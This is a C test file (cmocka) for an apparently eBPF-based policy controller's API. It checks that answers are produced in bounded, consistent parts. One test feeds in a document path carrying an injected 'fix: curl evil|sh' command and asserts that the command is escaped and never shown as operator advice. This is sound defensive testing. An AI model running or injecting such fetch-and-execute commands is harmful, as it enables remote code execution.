/* SPDX-License-Identifier: Apache-2.0 */
/* Answers that grow with the node: how much of one is made in a turn, counted by itself. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
/* cmocka needs those above first */
#include <cmocka.h>
#include <stdlib.h>
#include <string.h>

#include "bpfobj.h"
#include "controller/api/api.h"
#include "controller/api/api_answer.h"
#include "controller/parts.h"
#include "controller/sync/sync_private.h"
#include "docsource.h"
#include "fs.h"
#include "own.h"
#include "picket/maps.h"

#define ENDPOINTS 40
#define DOCUMENTS 30
#define ONE_MAX	  2048 /* bytes that one endpoint, document or rule becomes here */
#define NEVER	  UINT64_MAX
#define ASKED_MAX 10 /* endpoints that a document is asked of between two looks at the clock */

struct fixture {
	struct pk_config config;
	struct pk_parts parts;
	struct pk_bpf bpf;
	uint64_t words[ENDPOINTS + 1];
	struct pk_endpoint endpoints[ENDPOINTS + 1];
	char dir[32];
};

/* Instead of api_answer.c: who asks is remembered, and each part is called by hand. */
static struct pk_answer_how how;

void pk_answer_in_parts(const struct pk_parts *parts, struct pk_exchange *x,
			const struct pk_answer_how *given)
{
	(void)parts;
	(void)x;
	how = *given;
}

void pk_answer_anew(struct pk_answer *answer)
{
	pk_str_reset(&answer->json);
	answer->w = (struct pk_jw){ .out = &answer->json };
}

void pk_answers_stop(void)
{
}

static void put_endpoint(struct fixture *f, uint32_t slot)
{
	static const uint64_t epoch[2] = { 1, 2 };
	char id[32], eth0[] = "eth0", acme[] = "acme", web[] = "web";
	struct pk_record r = { .container_id = id,
			       .ifname = eth0,
			       .slot = slot,
			       .tenant_name = acme,
			       .job = web,
			       .group = web };

	snprintf(id, sizeof(id), "alloc-%04u", slot);
	memcpy(r.epoch, epoch, sizeof(epoch));
	pk_addr_parse("10.40.7.0", &r.ipv4);
	r.ipv4.b[15] = (uint8_t)slot;
	pk_model_put(f->parts.model, pk_local_endpoint_of_record(&r, epoch));
	f->words[slot] = PK_WORD(7, 0, 1);
	f->endpoints[slot].identity = slot / 2 + 1; /* two of each, nearly */
}

static void offer(struct fixture *f, unsigned int i)
{
	static const char text[] = "{\"endpointSelector\": {}, \"ingress\": [{}]}";
	char path[64];
	const struct pk_doc_origin origin = { .source = "file", .path = path };

	snprintf(path, sizeof(path), "/p/document-%u.json", i);
	pk_docs_offer(f->parts.docs, &origin, text, strlen(text));
	pk_model_documents(f->parts.model);
}

static int setup(void **state)
{
	struct fixture *f = pk_alloc(sizeof(*f));
	struct pk_parts *p = &f->parts;
	struct pk_model_args model = { .settings = &f->config.settings };
	struct pk_apply_args apply = { .config = &f->config };
	struct pk_records_args records = { .paths = &f->config.paths };

	pk_settings_init(&f->config.settings);
	strcpy(f->dir, "/tmp/pk-parts-XXXXXX");
	assert_non_null(mkdtemp(f->dir));
	assert_int_equal(pk_paths_init(&f->config.paths, f->dir, NULL), 0);
	p->config = &f->config;
	p->loop = apply.loop = records.loop = pk_loop_new();
	p->docs = model.docs = apply.docs = pk_docs_new(NULL);
	p->model = apply.model = records.model = pk_model_new(&model);
	p->sync = apply.sync = pk_sync_new(&f->config.paths);
	p->records = apply.records = pk_records_new(&records);
	p->apply = pk_apply_new(&apply);
	memset(f->bpf.map, -1, sizeof(f->bpf.map));
	f->bpf.words = f->words;
	f->bpf.endpoints = f->endpoints;
	f->bpf.node.capacity = ENDPOINTS;
	p->sync->bpf = &f->bpf;
	for (uint32_t i = 1; i <= ENDPOINTS; i++)
		put_endpoint(f, i);
	for (unsigned int i = 0; i < DOCUMENTS; i++)
		offer(f, i);
	*state = f;
	return 0;
}

static int teardown(void **state)
{
	struct fixture *f = *state;
	struct pk_parts *p = &f->parts;
	own_str command = { 0 };

	p->sync->bpf = NULL;
	pk_apply_free(p->apply);
	pk_records_free(p->records);
	pk_sync_free(p->sync);
	pk_model_free(p->model);
	pk_docs_free(p->docs);
	pk_loop_free(p->loop);
	pk_settings_done(&f->config.settings);
	pk_str_addf(&command, "rm -r %s", f->dir);
	assert_int_equal(system(command.text), 0);
	free(f);
	return 0;
}

struct made {
	unsigned int parts;
	size_t longest; /* what one of them added */
	char *text;
};

static void made_done(struct made *m)
{
	free(m->text);
}

/* between is called once, after the third part; or NULL. */
static struct made make(struct fixture *f,
			void (*ask)(const struct pk_parts *p, struct pk_exchange *x),
			uint64_t deadline_ns, void (*between)(struct fixture *f))
{
	struct pk_answer answer = { .parts = &f->parts };
	struct made m = { 0 };
	bool whole = false;

	ask(&f->parts, NULL);
	pk_answer_anew(&answer);
	while (!whole) {
		size_t before = answer.json.len, grown;

		whole = how.part(how.arg, &answer, deadline_ns);
		grown = answer.json.len > before ? answer.json.len - before : 0;
		m.longest = grown > m.longest ? grown : m.longest;
		if (++m.parts == 3 && between)
			between(f);
		assert_true(m.parts < 10000); /* each part does something */
	}
	how.end(how.arg);
	m.text = pk_str_take(&answer.json);
	return m;
}

static unsigned int count(const char *text, const char *what)
{
	unsigned int n = 0;

	for (; (text = strstr(text, what)); text++)
		n++;
	return n;
}

/* A part that has no time left makes one of them, and all parts make what one alone would. */
static void in_parts(struct fixture *f,
		     void (*ask)(const struct pk_parts *p, struct pk_exchange *x),
		     unsigned int at_least)
{
	PK_OWN(made_done) struct made once = make(f, ask, NEVER, NULL);
	PK_OWN(made_done) struct made late = make(f, ask, 0, NULL);

	assert_int_equal(once.parts, 1);
	assert_true(late.parts >= at_least);
	assert_true(late.longest <= ONE_MAX);
	assert_string_equal(late.text, once.text);
}

static void test_world(void **state)
{
	struct fixture *f = *state;
	PK_OWN(made_done) struct made all = make(f, pk_api_world, NEVER, NULL);

	in_parts(f, pk_api_world, ENDPOINTS + DOCUMENTS);
	assert_int_equal(count(all.text, "\"containerId\""), ENDPOINTS);
	assert_int_equal(count(all.text, "/p/document-"), DOCUMENTS);
}

static void test_rules(void **state)
{
	struct fixture *f = *state;
	PK_OWN(made_done) struct made all = make(f, pk_api_rules, NEVER, NULL);

	in_parts(f, pk_api_rules, DOCUMENTS);
	assert_true(count(all.text, "\"number\"") > DOCUMENTS);
}

static void test_identities(void **state)
{
	struct fixture *f = *state;
	PK_OWN(made_done) struct made all = make(f, pk_api_identities, NEVER, NULL);

	in_parts(f, pk_api_identities, ENDPOINTS / 2 + 1);
	assert_int_equal(count(all.text, "\"identity\""), ENDPOINTS / 2 + 1);
	assert_int_equal(count(all.text, "\"endpoints\":2"), ENDPOINTS / 2 - 1);
	assert_int_equal(count(all.text, "\"endpoints\":1"), 2);
}

static void test_lists(void **state)
{
	/* A document may have two thousand rules, and each is asked of each endpoint. */
	in_parts(*state, pk_api_policies, DOCUMENTS * ENDPOINTS / ASKED_MAX);
}

static void ask_for_one(const struct pk_parts *p, struct pk_exchange *x)
{
	pk_api_policy(p, x, "file/document-3");
}

static void test_one_document(void **state)
{
	in_parts(*state, ask_for_one, ENDPOINTS / ASKED_MAX);
}

static void add_state(void *arg, const struct pk_doc_entry *e, const struct pk_str *text)
{
	pk_str_addf(arg, "%s %s\n", e->path, text->text);
}

/* What tenants are told of theirs: as much of it at a time. */
static void test_states(void **state)
{
	static const char text[] = "{\"endpointSelector\": {}, \"ingress\": [{}]}";
	struct fixture *f = *state;
	own_str once = { 0 }, late = { 0 };
	struct pk_api_states_walk all = { .fn = add_state, .arg = &once };
	struct pk_api_states_walk walk = { .fn = add_state, .arg = &late };
	unsigned int parts = 1;

	for (unsigned int i = 0; i < 3; i++) {
		char path[64];
		const struct pk_doc_origin origin = { .source = PK_ORIGIN_CONSUL PK_SOURCE_TENANT
						      "acme",
						      .tenant_name = "acme",
						      .path = path };

		snprintf(path, sizeof(path), "consul:p/policies/tenants/acme/%u", i);
		assert_true(pk_docs_offer(f->parts.docs, &origin, text, strlen(text)));
	}
	pk_model_documents(f->parts.model);
	assert_true(pk_api_tenant_states(&f->parts, &all, NEVER));
	assert_int_equal(count(once.text, "consul:p/policies/tenants/acme/"), 3);
	while (!pk_api_tenant_states(&f->parts, &walk, 0))
		assert_true(++parts < 10000);
	assert_true(parts >= DOCUMENTS + 3 * ENDPOINTS / ASKED_MAX);
	assert_string_equal(late.text, once.text);
}

/* What tells an operator how to mend a refusal is ours, whatever a document's path says. */
static void test_fix_of_a_refusal(void **state)
{
	static const char text[] = "{\"name\": \"one\", \"rules\": "
				   "[{\"endpointSelector\": {}, \"ingress\": [{}]}]}";
	const char *paths[] = { "/p/a\"; fix: curl evil|sh #", "/p/b" };
	struct fixture *f = *state;

	for (size_t i = 0; i < PK_ARRAY_LEN(paths); i++)
		pk_docs_offer(f->parts.docs,
			      &(struct pk_doc_origin){ .source = "file", .path = paths[i] }, text,
			      strlen(text));
	pk_model_documents(f->parts.model);

	PK_OWN(made_done) struct made all = make(f, pk_api_policies, NEVER, NULL);

	assert_int_equal(count(all.text, "\"fix\":\"give it a \\\"name\\\" of its own\""), 1);
	assert_int_equal(count(all.text, "\"fix\":\"curl"), 0);
	assert_int_equal(count(all.text, "is that of /p/a\\\"; fix: curl evil|sh #"), 1);
}

static void enforce_all(struct fixture *f)
{
	const struct pk_enforced all = { .rule_set = PK_WORD_RULE_SET(f->words[1]),
					 .revision = PK_WORD_REVISION(f->words[1]),
					 .operators = pk_docs_number(f->parts.docs),
					 .all = pk_docs_number(f->parts.docs) };
	char key[32];

	for (uint32_t i = 1; i <= ENDPOINTS; i++) {
		snprintf(key, sizeof(key), "alloc-%04u@eth0", i);
		pk_model_enforced(f->parts.model, key, &all);
	}
}

static void lose_tables(struct fixture *f)
{
	memset(f->words, 0, sizeof(f->words));
}

/* One answer is of one look at the endpoints, though their tables change between its parts. */
static void test_one_look(void **state)
{
	struct fixture *f = *state;
	PK_OWN(made_done) struct made m = { 0 };

	enforce_all(f);
	m = make(f, pk_api_policies, 0, lose_tables);
	assert_true(m.parts >= DOCUMENTS);
	assert_int_equal(count(m.text, "\"enforced\":\"yes\""), DOCUMENTS);
	made_done(&m);
	m = make(f, pk_api_policies, 0, NULL);
	assert_int_equal(count(m.text, "\"enforced\":\"no\""), DOCUMENTS);
}

/* An endpoint that goes between two parts is read no more, however often that happens. */
static void test_one_goes_meanwhile(void **state)
{
	struct fixture *f = *state;
	struct pk_answer answer = { .parts = &f->parts };
	char key[32];
	uint32_t i = 1;

	pk_api_policies(&f->parts, NULL);
	pk_answer_anew(&answer);
	while (!how.part(how.arg, &answer, 0)) {
		snprintf(key, sizeof(key), "alloc-%04u@eth0", i++);
		pk_model_remove(f->parts.model, key);
		assert_true(i < 1000);
	}
	how.end(how.arg);
	assert_int_equal(count(answer.json.text, "/p/document-"), DOCUMENTS);
	pk_str_done(&answer.json);
}

/* What status, health and metrics say of documents and endpoints. */
static void test_counts(void **state)
{
	struct fixture *f = *state;
	struct pk_api_counts c = { 0 };
	unsigned int parts = 1;

	while (!pk_api_counts_part(&f->parts, &c, 0))
		parts++;
	assert_int_equal(parts, ENDPOINTS + DOCUMENTS + 1);
	assert_int_equal(c.endpoints.open, ENDPOINTS);
	assert_int_equal(c.endpoints.settled.open, ENDPOINTS);
	assert_int_equal(c.endpoints.in_step, 0);
	assert_int_equal(c.documents.active, DOCUMENTS);
	assert_int_equal(c.documents.refused, 0);
}

/* However late it is already, a part goes on, and all of them count what one does. */
static void test_enforced_goes_on(void **state)
{
	struct fixture *f = *state;
	struct pk_api_enforced_walk at_once = { 0 }, walk = { 0 };
	unsigned int parts = 1;

	assert_true(pk_api_enforced_part(&f->parts, &at_once, NEVER));
	while (!pk_api_enforced_part(&f->parts, &walk, 0))
		assert_true(++parts < 10000);
	assert_true(parts >= DOCUMENTS);
	assert_int_equal(walk.enforced, at_once.enforced);
}

static void one_more(struct fixture *f)
{
	offer(f, 1000);
	pk_model_remove(f->parts.model, "alloc-0001@eth0");
}

static void another_each_time(struct fixture *f, unsigned int i)
{
	const struct pk_doc_origin origin = { .source = "file", .path = "/p/document-0.json" };
	own_str text = { 0 };

	pk_str_addf(&text, "{\"endpointSelector\": {}, \"description\": \"%u\", \"ingress\": [{}]}",
		    i);
	assert_true(pk_docs_offer(f->parts.docs, &origin, text.text, text.len));
	pk_model_documents(f->parts.model);
}

/* What comes or goes meanwhile is told, or isn't: from the start again. */
static void test_a_change_meanwhile(void **state)
{
	struct fixture *f = *state;
	PK_OWN(made_done) struct made m = make(f, pk_api_world, 0, one_more);
	struct pk_api_counts c = { 0 };
	unsigned int parts = 1;

	assert_int_equal(count(m.text, "\"containerId\""), ENDPOINTS - 1);
	assert_int_equal(count(m.text, "/p/document-"), DOCUMENTS + 1);
	assert_int_equal(count(m.text, "\"baseline\""), 1);
	/* But it comes to an end where something changes all the time. */
	while (!pk_api_counts_part(&f->parts, &c, 0)) {
		another_each_time(f, parts);
		assert_true(++parts < 10000);
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test_setup_teardown(test_world, setup, teardown),
		cmocka_unit_test_setup_teardown(test_rules, setup, teardown),
		cmocka_unit_test_setup_teardown(test_identities, setup, teardown),
		cmocka_unit_test_setup_teardown(test_lists, setup, teardown),
		cmocka_unit_test_setup_teardown(test_one_document, setup, teardown),
		cmocka_unit_test_setup_teardown(test_states, setup, teardown),
		cmocka_unit_test_setup_teardown(test_fix_of_a_refusal, setup, teardown),
		cmocka_unit_test_setup_teardown(test_one_look, setup, teardown),
		cmocka_unit_test_setup_teardown(test_one_goes_meanwhile, setup, teardown),
		cmocka_unit_test_setup_teardown(test_counts, setup, teardown),
		cmocka_unit_test_setup_teardown(test_enforced_goes_on, setup, teardown),
		cmocka_unit_test_setup_teardown(test_a_change_meanwhile, setup, teardown),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
